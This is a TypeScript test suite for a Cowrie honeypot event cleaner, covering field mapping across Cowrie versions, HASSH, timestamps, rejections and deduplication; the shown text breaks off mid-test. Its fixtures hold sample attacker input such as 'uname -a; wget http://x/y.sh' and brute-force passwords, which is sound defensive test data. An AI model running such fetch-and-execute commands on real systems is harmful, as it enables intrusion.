import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { CanonicalEvent } from "../../src/domain/canonical-event";
import { CleanOutcome, CowrieEventCleaner } from "../../src/clean/cowrie-event-cleaner";
import { heapKeptBy } from "../support/garbage-collector";

const NOW = Date.parse("2026-03-18T12:00:00Z");

/** A Cowrie 2.x event of session a1b2c3d4e5f6 from 203.0.113.7, as the sensor writes it. */
function cowrie2(eventid: string, second: number, fields: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    eventid, message: "...", sensor: "sensor-1",
    timestamp: `2026-03-18T10:27:${String(second).padStart(2, "0")}.123456Z`, src_ip: "203.0.113.7", session: "a1b2c3d4e5f6", protocol: "ssh",
    ...fields,
  };
}

const connect2 = cowrie2("cowrie.session.connect", 0, { src_port: 51234, dst_ip: "10.0.0.2", dst_port: 22 });

function clean(outcome: CleanOutcome): CanonicalEvent {
  assert.equal(outcome.kind, "clean", JSON.stringify(outcome));
  return (outcome as { event: CanonicalEvent }).event;
}

function rejection(outcome: CleanOutcome): string {
  assert.equal(outcome.kind, "rejected", JSON.stringify(outcome));
  return (outcome as { reason: string }).reason;
}

describe("CowrieEventCleaner", () => {
  let cleaner: CowrieEventCleaner;
  beforeEach(() => {
    cleaner = new CowrieEventCleaner({ now: () => NOW });
  });

  describe("Cowrie 2.x", () => {
    it("turns a connect into the canonical event, field for field", () => {
      assert.deepEqual(clean(cleaner.clean({ ...connect2, uuid: "ae0aab00-22b0-11f1-b096-0affcd2dea01" })), {
        time_ms: Date.parse("2026-03-18T10:27:00.123Z") + 0.456,
        time: "2026-03-18T10:27:00.123Z",
        eventid: "cowrie.session.connect",
        category: "connect",
        sensor: "sensor-1",
        session: "a1b2c3d4e5f6",
        src_ip: "203.0.113.7",
        is_internal_ip: false,
        protocol: "ssh",
        uuid: "ae0aab00-22b0-11f1-b096-0affcd2dea01",
        src_port: 51234,
        dst_ip: "10.0.0.2",
        dst_port: 22,
      });
    });

    it("fills the connect's connection fields into the session's later events, until it closes", () => {
      clean(cleaner.clean(connect2));
      const login = clean(cleaner.clean(cowrie2("cowrie.login.failed", 1, { username: "root", password: "123456" })));
      assert.deepEqual([login.src_port, login.dst_ip, login.dst_port], [51234, "10.0.0.2", 22]);
      assert.deepEqual([login.username, login.password, login.category], ["root", "123456", "auth"]);
      const closed = clean(cleaner.clean(cowrie2("cowrie.session.closed", 2, { duration: "12.3" })));
      assert.equal(closed.duration_ms, 12300);
      assert.equal(closed.dst_port, 22);
      assert.equal(cleaner.sessions.size, 0, "a closed session is forgotten");
      const late = clean(cleaner.clean(cowrie2("cowrie.log.closed", 3)));
      assert.equal(late.src_port, undefined, "nothing is invented once the session is gone");
    });

    it("fills nothing into an event without a session id from another source's: all such events are session \"unknown\"", () => {
      const scan = (src_ip: string, eventid: string, fields: Record<string, unknown>) => ({ eventid, timestamp: "2026-03-18T10:27:00Z", src_ip, ...fields });
      clean(cleaner.clean(scan("203.0.113.7", "cowrie.session.connect", { src_port: 40000, dst_ip: "10.0.0.2", dst_port: 2323, protocol: "telnet" })));
      const login = clean(cleaner.clean(scan("198.51.100.4", "cowrie.login.failed", { username: "root", password: "x" })));
      assert.deepEqual([login.session, login.protocol, login.src_port, login.dst_port], ["unknown", "unknown", undefined, undefined]);
      assert.equal(cleaner.sessions.size, 0);
    });

    it("keeps a tunnel's own destination, a host name too, and fills nothing into it", () => {
      clean(cleaner.clean(connect2));
      const request = clean(cleaner.clean(cowrie2("cowrie.direct-tcpip.request", 1, { dst_ip: "google.com", dst_port: 443, src_port: 40488 })));
      assert.deepEqual([request.category, request.dst_ip, request.dst_port, request.src_port], ["tunnel", "google.com", 443, 40488]);
      const data = clean(cleaner.clean(cowrie2("cowrie.direct-tcpip.data", 2, { dst_ip: "google.com", dst_port: 443, data: "..." })));
      assert.equal(data.src_port, undefined);
      assert.equal(data.protocol, "ssh");
    });

    it("maps each eventid's own fields", () => {
      const version = clean(cleaner.clean(cowrie2("cowrie.client.version", 1, { version: "SSH-2.0-Go" })));
      assert.equal(version.client_version, "SSH-2.0-Go");
      const kex = clean(cleaner.clean(cowrie2("cowrie.client.kex", 1, { hassh: "aae6b9604f6f3356543709a376d7f657" })));
      assert.equal(kex.hassh, "aae6b9604f6f3356543709a376d7f657");
      const command = clean(cleaner.clean(cowrie2("cowrie.command.input", 2, { input: "uname -a; wget http://x/y.sh" })));
      assert.deepEqual([command.category, command.input], ["command", "uname -a; wget http://x/y.sh"]);
      const download = clean(cleaner.clean(cowrie2("cowrie.session.file_download", 3, { url: "http://x/y.sh", shasum: "ab12", outfile: "dl/ab12" })));
      assert.deepEqual([download.category, download.url, download.shasum], ["file", "http://x/y.sh", "ab12"]);
      const failed = clean(cleaner.clean(cowrie2("cowrie.session.file_download.failed", 4, { url: "http://x/z" })));
      assert.deepEqual([failed.url, failed.shasum], ["http://x/z", undefined]);
      const upload = clean(cleaner.clean(cowrie2("cowrie.session.file_upload", 5, { filename: "sshd", shasum: "94f2" })));
      assert.deepEqual([upload.shasum, upload.url], ["94f2", undefined]);
    });

    it("takes a key-based login's fingerprint instead of a password", () => {
      const fingerprint = "b5:22:2a:3f:8b:a6:24:06:87:ce:ef:fe:a0:c4:c3:03";
      const login = clean(cleaner.clean(cowrie2("cowrie.login.failed", 1, { username: "root", fingerprint, key: "ssh-rsa AAAA", type: "ssh-rsa" })));
      assert.equal(login.key_fingerprint, fingerprint);
      assert.equal("password" in login, false);
      const offered = clean(cleaner.clean(cowrie2("cowrie.client.fingerprint", 1, { username: "root", fingerprint })));
      assert.deepEqual([offered.category, offered.key_fingerprint], ["client", fingerprint]);
    });

    it("writes unknown for missing text and leaves missing numbers absent", () => {
      const login = clean(cleaner.clean({ eventid: "cowrie.login.success", timestamp: "2026-03-18T10:27:00Z", src_ip: "203.0.113.7" }));
      assert.deepEqual([login.sensor, login.session, login.protocol, login.username, login.password], ["unknown", "unknown", "unknown", "unknown", "unknown"]);
      const closed = clean(cleaner.clean(cowrie2("cowrie.session.closed", 1)));
      assert.equal("duration_ms" in closed, false);
      const connect = clean(cleaner.clean(cowrie2("cowrie.session.connect", 2)));
      assert.deepEqual([connect.src_port, connect.dst_ip, connect.dst_port], [undefined, undefined, undefined]);
    });

    it("passes unknown eventids through as category other", () => {
      const event = clean(cleaner.clean(cowrie2("cowrie.abuseipdb.reportedip", 1, { username: "not mapped here" })));
      assert.equal(event.category, "other");
      assert.equal(event.username, undefined);
    });
  });

  describe("other Cowrie versions", () => {
    it("2016-era: float duration in seconds, no protocol (taken from `system`), no uuid", () => {
      const base = { session: "6bf10bd8", src_ip: "5.45.66.6", sensor: "vesselin-pc", isError: 0 };
      clean(cleaner.clean({ ...base, eventid: "cowrie.session.connect", timestamp: "2017-01-23T13:05:00.002275Z", src_port: 5022, dst_ip: "192.168.0.102", dst_port: 2222, system: "cowrie.ssh.factory.CowrieSSHFactory" }));
      const closed = clean(cleaner.clean({ ...base, eventid: "cowrie.session.closed", timestamp: "2017-01-23T13:05:35.002275Z", duration: 35.00023126602173, system: "HoneyPotSSHTransport,20,5.45.66.6" }));
      assert.deepEqual([closed.duration_ms, closed.protocol, closed.uuid, closed.dst_port], [35000, "ssh", undefined, 2222]);
      clean(cleaner.clean({ ...base, session: "7c7c7c7c", eventid: "cowrie.session.connect", timestamp: "2017-01-23T13:06:00Z", system: "CowrieTelnetFactory" }));
      const bare = clean(cleaner.clean({ ...base, session: "7c7c7c7c", eventid: "cowrie.command.input", timestamp: "2017-01-23T13:06:01Z", input: "sh" }));
      assert.equal(bare.protocol, "telnet", "from the session's connect event when the event itself does not say");
      const telnet = clean(cleaner.clean({ ...base, session: "0i", eventid: "cowrie.login.success", timestamp: "2017-01-23T07:27:06.632719Z", username: "root", password: "xc3511", system: "CowrieTelnetTransport,0,46.166.142.56" }));
      assert.equal(telnet.protocol, "telnet");
    });

    it("1.x and later Python-quoted banners: the client version as the client sent it, so one client is one version across Cowrie versions", () => {
      const base = { session: "fa045b057360", src_ip: "52.88.114.5", sensor: "e4bba5c4b1e1", isError: 0, system: "HoneyPotSSHTransport,19,52.88.114.5" };
      const old = clean(cleaner.clean({ ...base, eventid: "cowrie.client.version", timestamp: "2017-07-10T13:40:52.763171Z", version: "'SSH-2.0-libssh2_1.4.3'", kexAlgs: ["diffie-hellman-group14-sha1"] }));
      assert.equal(old.client_version, "SSH-2.0-libssh2_1.4.3");
      const bytes = clean(cleaner.clean({ ...base, eventid: "cowrie.client.version", timestamp: "2019-07-10T13:40:52.763171Z", version: "b'SSH-2.0-Go'" }));
      assert.equal(bytes.client_version, "SSH-2.0-Go");
      const odd = clean(cleaner.clean({ ...base, eventid: "cowrie.client.version", timestamp: "2019-07-10T13:40:53.763171Z", version: "SSH-2.0-'quoted'" }));
      assert.equal(odd.client_version, "SSH-2.0-'quoted'", "quotes inside a banner are the client's own");
    });

    it("Python-quoted banners holding a quote or a backslash: the version as the client sent it, as 2.x writes it", () => {
      const base = { session: "fa045b057361", src_ip: "52.88.114.6", sensor: "e4bba5c4b1e1", isError: 0, system: "HoneyPotSSHTransport,20,52.88.114.6" };
      // Python's repr(): double quotes round a string holding ' and no ", else single quotes with \' and \\ escaped.
      const written: Array<[string, string]> = [
        ["b\"SSH-2.0-it's\"", "SSH-2.0-it's"],
        ["b'SSH-2.0-a\\'b\"c'", "SSH-2.0-a'b\"c"],
        ["'SSH-2.0-a\\\\b'", "SSH-2.0-a\\b"],
        ["\"SSH-2.0-x\"", "\"SSH-2.0-x\""],
      ];
      written.forEach(([version, sent], i) => {
        const event = clean(cleaner.clean({ ...base, eventid: "cowrie.client.version", timestamp: `2019-07-10T13:41:0${i}.763171Z`, version }));
        assert.equal(event.client_version, sent, version);
      });
    });

    it("1.x: a client.version carrying the key exchange offer gets the HASSH 2.x would write on its client.kex", () => {
      const offer = { kexAlgs: ["curve25519-sha256@libssh.org", "diffie-hellman-group14-sha1"], keyAlgs: ["ssh-rsa"], encCS: ["aes128-ctr", "aes256-cbc"], macCS: ["hmac-sha1"], compCS: ["none", "zlib@openssh.com"] };
      const base = { session: "fa045b057360", src_ip: "52.88.114.5", sensor: "e4bba5c4b1e1", isError: 0, system: "HoneyPotSSHTransport,19,52.88.114.5" };
      const old = clean(cleaner.clean({ ...base, eventid: "cowrie.client.version", timestamp: "2017-07-10T13:40:52.763171Z", version: "'SSH-2.0-libssh2_1.4.3'", ...offer }));
      // salesforce/hassh: the MD5 of the client's kex;enc;mac;comp lists, each comma-joined.
      const hassh = createHash("md5").update("curve25519-sha256@libssh.org,diffie-hellman-group14-sha1;aes128-ctr,aes256-cbc;hmac-sha1;none,zlib@openssh.com").digest("hex");
      assert.equal(old.hassh, hassh);
      const bare = clean(cleaner.clean({ ...base, eventid: "cowrie.client.version", timestamp: "2017-07-10T13:40:53.763171Z", version: "'SSH-2.0-Go'" }));
      assert.equal(bare.hassh, undefined, "no offer, no HASSH");
      const partial = clean(cleaner.clean({ ...base, eventid: "cowrie.client.version", timestamp: "2017-07-10T13:40:54.763171Z", version: "'SSH-2.0-Go'", ...offer, macCS: "hmac-sha1" }));
      assert.equal(partial.hassh, undefined, "an offer not as Cowrie writes it is not guessed at");
    });

    it("1.x: a line typed into a command's standard input is session.input, whatever eventid the version logged it under", () => {
      const base = { session: "6bf10bd8", src_ip: "5.45.66.6", sensor: "vesselin-pc", isError: 0, system: "CowrieTelnetTransport,3,5.45.66.6" };
      // 2016's cat, grep, tail and head logged their stdin as a file download; 2017's grep, tail and head as a command.
      const asDownload = clean(cleaner.clean({ ...base, eventid: "cowrie.session.file_download", timestamp: "2017-01-23T13:05:01.002275Z", realm: "cat", input: "sh" }));
      const asCommand = clean(cleaner.clean({ ...base, eventid: "cowrie.command.input", timestamp: "2017-06-23T13:05:01.002275Z", realm: "tail", input: "busybox" }));
      for (const event of [asDownload, asCommand]) {
        assert.deepEqual([event.eventid, event.category, event.url, event.input], ["cowrie.session.input", "session", undefined, undefined]);
      }
      const download = clean(cleaner.clean({ ...base, eventid: "cowrie.session.file_download", timestamp: "2017-01-23T13:05:02.002275Z", url: "http://198.51.100.9/x", outfile: "dl/x", shasum: "ab12" }));
      assert.deepEqual([download.eventid, download.url], ["cowrie.session.file_download", "http://198.51.100.9/x"]);
      const redirected = clean(cleaner.clean({ ...base, eventid: "cowrie.session.file_download", timestamp: "2017-01-23T13:05:03.002275Z", url: "/tmp/.x", outfile: "dl/ab13", shasum: "ab13", destfile: "/tmp/.x" }));
      assert.equal(redirected.eventid, "cowrie.session.file_download");
    });

    it("3.x: duration_ms and connection fields on every event, as written", () => {
      const three = (eventid: string, fields: Record<string, unknown>) => ({
        eventid, ...fields, src_ip: "2001:db8::7", src_port: 40000, dst_ip: "2001:db8::1", dst_port: 2223, session: "3a3a3a3a3a3a",
        sensor: "s3", protocol: "telnet", uuid: "0f0e0d0c-0000-11f0-8000-000000000001", timestamp: "2026-03-18T10:27:00.000001Z",
      });
      const command = clean(cleaner.clean(three("cowrie.command.input", { input: "enable" })));
      assert.deepEqual([command.src_port, command.dst_ip, command.dst_port, command.protocol], [40000, "2001:db8::1", 2223, "telnet"]);
      const closed = clean(cleaner.clean(three("cowrie.session.closed", { duration_ms: 1234 })));
      assert.equal(closed.duration_ms, 1234);
    });

    it("reads `+0200`-style offsets, `epoch` seconds or milliseconds and Cowrie's numeric `time`", () => {
      const instant = Date.parse("2026-03-18T10:27:00.123Z");
      let session = 0;
      // Each in its own session: the same instant twice in one session would be a duplicate.
      const at = (fields: Record<string, unknown>) => clean(cleaner.clean({ eventid: "cowrie.client.size", src_ip: "203.0.113.7", session: `s${session++}`, ...fields })).time_ms;
      assert.equal(at({ timestamp: "2026-03-18T10:27:00.123Z" }), instant);
      assert.equal(at({ timestamp: "2026-03-18T12:27:00.123+0200" }), instant);
      assert.equal(at({ timestamp: "2026-03-18T05:27:00.123-05:00" }), instant);
      assert.equal(at({ epoch: instant / 1000 }), instant);
      assert.equal(at({ epoch: String(instant / 1000) }), instant);
      assert.equal(at({ epoch: instant }), instant);
      assert.equal(at({ time: instant / 1000 }), instant);
      const offset = clean(cleaner.clean({ eventid: "x", src_ip: "203.0.113.7", timestamp: "2026-03-18T12:27:00.123+0200" }));
      assert.equal(offset.time, "2026-03-18T10:27:00.123Z");
    });

    it("T-Pot's Logstash: `dest_ip` and `dest_port` as dst_ip and dst_port, a tunnel's too, beside the shipper's own fields", () => {
      // T-Pot's logstash.conf renames dst_ip and dst_port on every Cowrie event and adds @timestamp, geoip, t-pot_ip_ext...
      const tpot = (eventid: string, second: number, fields: Record<string, unknown>) => cowrie2(eventid, second, {
        ...fields, "@timestamp": `2026-03-18T10:27:${String(second).padStart(2, "0")}.123Z`, "@version": "1", type: "Cowrie", host: "tpot",
        path: "/data/cowrie/log/cowrie.json", "t-pot_ip_ext": "198.51.100.50", geoip: { ip: "203.0.113.7", country_code2: "US" }, tags: [],
      });
      const connect = clean(cleaner.clean(tpot("cowrie.session.connect", 0, { src_port: 51234, dest_ip: "10.0.0.2", dest_port: 22 })));
      assert.deepEqual([connect.dst_ip, connect.dst_port], ["10.0.0.2", 22]);
      const tunnel = clean(cleaner.clean(tpot("cowrie.direct-tcpip.request", 1, { dest_ip: "192.0.2.80", dest_port: 3389, src_port: 40488 })));
      assert.deepEqual([tunnel.dst_ip, tunnel.dst_port], ["192.0.2.80", 3389]);
      const command = clean(cleaner.clean(tpot("cowrie.command.input", 2, { input: "uname -a" })));
      assert.deepEqual([command.dst_ip, command.dst_port, command.input], ["10.0.0.2", 22, "uname -a"]);
    });

    it("Logstash's `@timestamp` when a shipper's date filter removed `timestamp`", () => {
      // logstash-filter-date's `remove_field => ["timestamp"]`, common in Cowrie pipelines: the time is left in @timestamp, to the millisecond.
      const shipped: Record<string, unknown> = { ...cowrie2("cowrie.login.failed", 1, { username: "root", password: "1234" }), "@timestamp": "2026-03-18T10:27:01.123Z", "@version": "1" };
      delete shipped.timestamp;
      const event = clean(cleaner.clean(shipped));
      assert.deepEqual([event.time, event.time_ms], ["2026-03-18T10:27:01.123Z", Date.parse("2026-03-18T10:27:01.123Z")]);
      const both = clean(cleaner.clean({ ...shipped, session: "other", timestamp: "2026-03-18T10:27:01.123456Z" }));
      assert.equal(both.time_ms, Date.parse("2026-03-18T10:27:01.123Z") + 0.456, "Cowrie's own timestamp first, with its microseconds");
      assert.equal(rejection(cleaner.clean({ ...shipped, session: "third", "@timestamp": "yesterday" })), "bad-timestamp");
    });

    it("Filebeat's own `input` in place of a command's: the command from Cowrie's message", () => {
      // Cowrie's documented Filebeat -> Logstash pipeline (cowrie/cowrie#1392, 2020): Filebeat's input {type: "log"} stays and the command's input is lost.
      const shipped = (eventid: string, second: number, message: string) => cowrie2(eventid, second, {
        input: { type: "log" }, message, agent: { type: "filebeat" }, ecs: { version: "1.5.0" }, log: { file: {} }, type: "cowrie",
      });
      assert.equal(clean(cleaner.clean(shipped("cowrie.command.input", 1, "CMD: uname -a; wget http://x/y.sh"))).input, "uname -a; wget http://x/y.sh");
      assert.equal(clean(cleaner.clean(shipped("cowrie.command.failed", 2, "Command not found: busybox ECCHI"))).input, "busybox ECCHI");
      assert.equal(clean(cleaner.clean(shipped("cowrie.command.success", 3, "Command found: enable"))).input, "enable");
      assert.equal(clean(cleaner.clean(shipped("cowrie.command.input", 4, "something else"))).input, "unknown");
      assert.equal(clean(cleaner.clean(cowrie2("cowrie.command.input", 5, { input: "ls", message: "CMD: cat" }))).input, "ls", "Cowrie's own input first");
    });

    it("normalises IPv6 and IPv4-mapped addresses and knows internal ones", () => {
      const v6 = clean(cleaner.clean(cowrie2("cowrie.session.connect", 1, { src_ip: "2001:DB8:0:0::7", dst_ip: "FD00::2", src_port: 1, dst_port: 22 })));
      assert.deepEqual([v6.src_ip, v6.dst_ip, v6.is_internal_ip], ["2001:db8::7", "fd00::2", false]);
      const mapped = clean(cleaner.clean(cowrie2("cowrie.session.connect", 2, { src_ip: "::ffff:192.168.1.20", session: "other" })));
      assert.deepEqual([mapped.src_ip, mapped.is_internal_ip], ["192.168.1.20", true]);
      const linkLocal = clean(cleaner.clean(cowrie2("cowrie.client.size", 3, { src_ip: "fe80::1" })));
      assert.equal(linkLocal.is_internal_ip, true);
    });

    it("accepts the JSON text of one event, as a string or a Buffer", () => {
      assert.equal(clean(cleaner.clean(JSON.stringify(connect2))).dst_port, 22);
      assert.equal(clean(cleaner.clean(Buffer.from(JSON.stringify(cowrie2("cowrie.client.size", 1))))).category, "client");
    });
  });

  describe("rejects", () => {
    const cases: Array<[string, unknown]> = [
      ["malformed-json", '{"eventid": "cowrie.login.failed", "src_ip": "1.2.'],
      ["not-an-object", 42],
      ["not-an-object", null],
      ["not-an-object", "[1,2]"],
      ["not-an-object", [connect2]],
      ["missing-eventid", { ...connect2, eventid: undefined }],
      ["missing-eventid", { ...connect2, eventid: "  " }],
      ["missing-eventid", { ...connect2, eventid: 7 }],
      ["missing-timestamp", { ...connect2, timestamp: undefined }],
      ["bad-timestamp", { ...connect2, timestamp: "yesterday" }],
      ["bad-timestamp", { ...connect2, timestamp: "2026-02-30T10:00:00Z" }],
      ["bad-timestamp", { ...connect2, timestamp: 1773829619 }],
      ["bad-timestamp", { ...connect2, timestamp: undefined, epoch: "soon" }],
      ["bad-timestamp", { ...connect2, timestamp: undefined, epoch: -5 }],
      ["bad-timestamp", { ...connect2, timestamp: undefined, epoch: 1e20 }],
      ["bad-timestamp", { ...connect2, timestamp: undefined, time: 1e17 }],
      ["bad-timestamp", { ...connect2, timestamp: undefined, epoch: "99999999999999999999" }],
      ["future-timestamp", { ...connect2, timestamp: "2026-03-19T12:00:01Z" }],
      ["missing-src_ip", { ...connect2, src_ip: undefined }],
      ["missing-src_ip", { ...connect2, src_ip: "" }],
      ["bad-src_ip", { ...connect2, src_ip: "203.0.113" }],
      ["bad-src_ip", { ...connect2, src_ip: "evil.example.com" }],
      ["bad-src_ip", { ...connect2, src_ip: 3405803783 }],
    ];
    for (const [reason, payload] of cases) {
      it(`${reason}: ${JSON.stringify(payload)?.slice(0, 90)}`, () => {
        const outcome = cleaner.clean(payload);
        assert.equal(rejection(outcome), reason);
        assert.ok((outcome as { detail: string }).detail.length > 0);
      });
    }

    it("covers every reason it declares", () => {
      assert.deepEqual(new Set(cases.map(([reason]) => reason)), new Set(CowrieEventCleaner.rejectReasons));
    });

    it("accepts what is just inside the limits", () => {
      clean(cleaner.clean({ ...connect2, timestamp: "2026-03-19T11:59:59Z" }));
      clean(cleaner.clean({ ...connect2, session: "x1", src_port: 0, dst_port: 65535 }));
      clean(cleaner.clean({ ...connect2, session: "x2", src_port: "2222" }));
    });

    it("with `receive-time`, stamps an event without a timestamp instead of rejecting it", () => {
      const lenient = new CowrieEventCleaner({ now: () => NOW, missingTimestamp: "receive-time" });
      const event = clean(lenient.clean({ ...connect2, timestamp: undefined }));
      assert.equal(event.time_ms, NOW);
      assert.equal(rejection(lenient.clean({ ...connect2, timestamp: "garbage" })), "bad-timestamp", "a bad timestamp is still rejected");
    });

    it("rejects a time past year 9999 with a reason, whatever the future tolerance, and never throws", () => {
      const backTest = new CowrieEventCleaner({ now: () => NOW, futureToleranceMs: Number.POSITIVE_INFINITY });
      for (const time of [{ epoch: 1e20 }, { time: 1e17 }, { epoch: "99999999999999999999" }, { epoch: 253402300800000 }]) {
        for (const checker of [cleaner, backTest]) {
          const outcome = checker.clean(JSON.stringify({ ...connect2, timestamp: undefined, ...time }));
          assert.equal(rejection(outcome), "bad-timestamp", JSON.stringify(time));
          assert.match((outcome as { detail: string }).detail, /year 9999/);
        }
      }
      assert.equal(clean(backTest.clean({ ...connect2, timestamp: "9999-12-31T23:59:59.999Z" })).time, "9999-12-31T23:59:59.999Z");
      const ahead = cleaner.clean({ ...connect2, timestamp: "9999-12-31T23:59:59Z" });
      assert.equal(rejection(ahead), "future-timestamp");
      assert.match((ahead as { detail: string }).detail, /^event time 9999-12-31T23:59:59.000Z is \d+\.\d h ahead/);
    });

    it("reads years 0000-0099 as written, not as 19xx", () => {
      assert.equal(clean(cleaner.clean({ ...connect2, timestamp: "0099-06-01T00:00:00.5Z" })).time, "0099-06-01T00:00:00.500Z");
      assert.equal(clean(cleaner.clean({ ...connect2, session: "y0", timestamp: "0000-01-01T00:00:00Z" })).time, "0000-01-01T00:00:00.000Z");
      assert.equal(rejection(cleaner.clean({ ...connect2, timestamp: "0099-02-29T00:00:00Z" })), "bad-timestamp", "99 was no leap year");
      assert.equal(rejection(cleaner.clean({ ...connect2, timestamp: "0000-01-01T00:30:00+0100" })), "bad-timestamp", "before year 0");
    });

    it("honours a configured future tolerance", () => {
      const strict = new CowrieEventCleaner({ now: () => NOW, futureToleranceMs: 60_000 });
      clean(strict.clean({ ...connect2, timestamp: "2026-03-18T12:00:59Z" }));
      assert.equal(rejection(strict.clean({ ...connect2, timestamp: "2026-03-18T12:01:01Z" })), "future-timestamp");
    });
  });

  describe("a bad secondary field", () => {
    // The telnet sensor of ../shared/data redacted dst_ip to x.x.x.x; SSH carries 32-bit tunnel ports.
    it("keeps the event without that field, and names it in the event's quality", () => {
      const tunnel = cleaner.clean(cowrie2("cowrie.direct-tcpip.request", 2, { dst_ip: "198.51.100.1", dst_port: 99999 }));
      const event = clean(tunnel);
      assert.equal(event.dst_port, undefined);
      assert.equal(event.dst_ip, "198.51.100.1");
      assert.deepEqual(tunnel.kind === "clean" && tunnel.quality.invalidFields, { dst_port: "dst_port 99999 is not an integer 0..65535" });

      const redacted = cleaner.clean({ ...connect2, session: "r1", dst_ip: "x.x.x.x" });
      assert.deepEqual(redacted.kind === "clean" && [redacted.event.dst_ip, redacted.event.src_port, redacted.quality.invalidFields], [
        undefined, 51234, { dst_ip: 'dst_ip "x.x.x.x" is not an IPv4 or IPv6 address' },
      ]);
      assert.equal(redacted.kind === "clean" && redacted.quality.writtenFields, 5, "src_port and dst_port of three connection fields, plus sensor, session, protocol");

      for (const [fields, field] of [
        [{ src_port: 70000 }, "src_port"], [{ dst_port: -1 }, "dst_port"], [{ dst_port: 22.5 }, "dst_port"], [{ dst_port: "ssh" }, "dst_port"],
      ] as const) {
        const outcome = cleaner.clean({ ...connect2, session: `p-${field}-${JSON.stringify(fields)}`, ...fields });
        assert.deepEqual(outcome.kind === "clean" && Object.keys(outcome.quality.invalidFields ?? {}), [field], JSON.stringify(fields));
      }
      for (const duration of [{ duration: "a while" }, { duration: -3 }, { duration_ms: "NaN" }]) {
        const outcome = cleaner.clean(cowrie2("cowrie.session.closed", 1, { ...duration, session: JSON.stringify(duration) }));
        assert.deepEqual(outcome.kind === "clean" && [outcome.event.duration_ms, Object.keys(outcome.quality.invalidFields ?? {})], [undefined, ["duration_ms"]]);
      }
      assert.equal(cleaner.counts.rejected, 0);
    });

    it("drops a duration longer than the years 0000 to 9999, which no session lasted and no later stage can average", () => {
      for (const duration of [{ duration: 1e200 }, { duration: 1e306 }, { duration_ms: 1e300 }]) {
        const outcome = cleaner.clean(cowrie2("cowrie.session.closed", 1, { ...duration, session: JSON.stringify(duration) }));
        assert.deepEqual(outcome.kind === "clean" && [outcome.event.duration_ms, Object.keys(outcome.quality.invalidFields ?? {})], [undefined, ["duration_ms"]], JSON.stringify(duration));
      }
      const year = cleaner.clean(cowrie2("cowrie.session.closed", 2, { duration: 365 * 86_400 }));
      assert.equal(year.kind === "clean" && year.event.duration_ms, 365 * 86_400_000, "a year-long session is odd, not impossible");
    });

    it("says what the sensor wrote, an out-of-range number too, not null", () => {
      const outcome = cleaner.clean(JSON.stringify(connect2).replace('"src_port":51234', '"src_port":1e400'));
      assert.deepEqual(outcome.kind === "clean" && outcome.quality.invalidFields, { src_port: "src_port Infinity is not an integer 0..65535" });
    });

    it("treats it as not written: the session's connect fills it in, as for any missing connection field", () => {
      clean(cleaner.clean(connect2));
      const login = cleaner.clean(cowrie2("cowrie.login.failed", 1, { username: "root", password: "x", dst_port: 99999 }));
      assert.deepEqual(login.kind === "clean" && [login.event.dst_port, Object.keys(login.quality.invalidFields ?? {})], [22, ["dst_port"]]);
    });
  });

  describe("duplicates", () => {
    it("tells apart events of different sources without session or uuid at one time", () => {
      const scan = { eventid: "cowrie.session.connect", timestamp: "2026-03-18T10:27:00Z" };
      clean(cleaner.clean({ ...scan, src_ip: "203.0.113.7" }));
      clean(cleaner.clean({ ...scan, src_ip: "203.0.113.8" }));
      assert.equal(cleaner.clean({ ...scan, src_ip: "203.0.113.8" }).kind, "duplicate");
    });

    it("drops an event seen again (same uuid, sensor, session, eventid and time) and counts it", () => {
      const login = cowrie2("cowrie.login.failed", 1, { username: "root", password: "x", uuid: "u-1" });
      assert.equal(cleaner.clean(login).kind, "clean");
      assert.equal(cleaner.clean({ ...login }).kind, "duplicate");
      assert.equal(cleaner.clean(JSON.stringify(login)).kind, "duplicate");
      assert.equal(cleaner.clean({ ...login, timestamp: "2026-03-18T10:27:01.123457Z" }).kind, "clean", "a microsecond later is another event");
      assert.equal(cleaner.clean({ ...login, eventid: "cowrie.login.success" }).kind, "clean");
      assert.equal(cleaner.clean({ ...login, uuid: "u-2" }).kind, "clean", "another sensor instance");
      assert.deepEqual(cleaner.counts, { clean: 4, rejected: 0, duplicates: 2 });
    });

    it("keeps two events of one session and second that say different things, in a log whose times stop at the second or the millisecond", () => {
      // Cowrie writes microseconds; a log exported through Elasticsearch (@timestamp), a SIEM or a script that reformats
      // times keeps milliseconds or seconds, and a bot's commands, a brute force's passwords share a time there.
      for (const time of ["2026-03-18T10:27:01Z", "2026-03-18T10:27:01.123Z"]) {
        const at = (eventid: string, fields: Record<string, unknown>) => cleaner.clean(cowrie2(eventid, 1, { ...fields, timestamp: time, uuid: "u-1" })).kind;
        assert.equal(at("cowrie.command.input", { input: "uname -a", message: "CMD: uname -a" }), "clean");
        assert.equal(at("cowrie.command.input", { input: "cat /proc/cpuinfo", message: "CMD: cat /proc/cpuinfo" }), "clean", time);
        assert.equal(at("cowrie.login.failed", { username: "root", password: "1234" }), "clean");
        assert.equal(at("cowrie.login.failed", { username: "root", password: "admin" }), "clean", time);
        assert.equal(at("cowrie.client.var", { name: "LANG", value: "C", message: "request_env: LANG=C" }), "clean");
        assert.equal(at("cowrie.client.var", { name: "TERM", value: "xterm", message: "request_env: TERM=xterm" }), "clean", time);
        assert.equal(at("cowrie.command.input", { input: "uname -a", message: "CMD: uname -a" }), "duplicate", "the same line read again");
        cleaner = new CowrieEventCleaner({ now: () => NOW });
      }
    });

    it("cleans an event whose uuid is an object or array, as a line of valid JSON can carry, without throwing", () => {
      const line = (uuid: string, second: number) => `{"eventid":"cowrie.login.failed","timestamp":"2026-03-18T10:27:0${second}Z","src_ip":"203.0.113.7","session":"a1","uuid":${uuid}}`;
      // The key was built by String() of the uuid: an object whose toString is not a function cannot be made text.
      ['{"toString":1}', '{"toString":1,"valueOf":2}', '[{"toString":1}]'].forEach((uuid, second) => {
        assert.equal(clean(cleaner.clean(line(uuid, second))).uuid, undefined, uuid);
        assert.equal(cleaner.clean(line(uuid, second)).kind, "duplicate", uuid);
      });
    });

    it("remembers only the most recent events (bounded window)", () => {
      const small = new CowrieEventCleaner({ now: () => NOW, duplicateWindow: 3 });
      const event = (n: number) => ({ ...connect2, session: `s${n}` });
      for (let n = 0; n < 3; n++) small.clean(event(n));
      assert.equal(small.clean(event(0)).kind, "duplicate");
      for (let n = 3; n < 6; n++) small.clean(event(n));
      assert.equal(small.clean(event(0)).kind, "clean", "pushed out of the window by three newer events");
    });

    it("does not let a duplicate connect or close touch the session table", () => {
      clean(cleaner.clean(connect2));
      const closed = cowrie2("cowrie.session.closed", 5, { duration: "1.0" });
      clean(cleaner.clean(closed));
      assert.equal(cleaner.clean(connect2).kind, "duplicate");
